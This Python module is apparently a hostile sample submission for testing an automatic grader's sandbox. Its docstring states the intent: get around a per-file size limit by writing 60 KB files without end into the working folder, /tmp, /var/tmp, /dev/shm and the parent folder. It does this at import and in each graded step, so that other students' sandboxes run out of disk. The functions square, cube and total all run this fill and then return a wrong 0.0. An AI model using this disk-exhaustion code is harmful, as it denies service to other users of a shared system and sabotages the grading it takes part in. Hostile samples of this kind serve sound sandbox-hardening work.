"""Fill the grader's temporary disk: RLIMIT_FSIZE bounds one file, not how
many. Write file after file of 60 KB in the working folder (and in /tmp,
and anywhere else that might take it) at import and in every step; in
``batch``, the students graded after this one would find no room for their
sandbox. No step needs a place to write, so the child has none."""
os = __import__("os")
time = __import__("time")
BLOCK = b"x" * (60 * 1024)


def fill(seconds):
    end = time.monotonic() + seconds
    n = 0
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm", ".."):
        while time.monotonic() < end:
            n += 1
            try:
                with open("%s/fill-%d-%d" % (folder, os.getpid(), n), "wb") as f:
                    f.write(BLOCK)
            except Exception as exc:  # noqa: BLE001
                print("fill %s stopped: %s" % (folder, exc))
                break


fill(1.0)


def step(*args):
    """Every step (square(x), cube(x), total(xs)): fill for half a second, then a wrong 0.0."""
    fill(0.5)
    return 0.0


square = cube = total = step
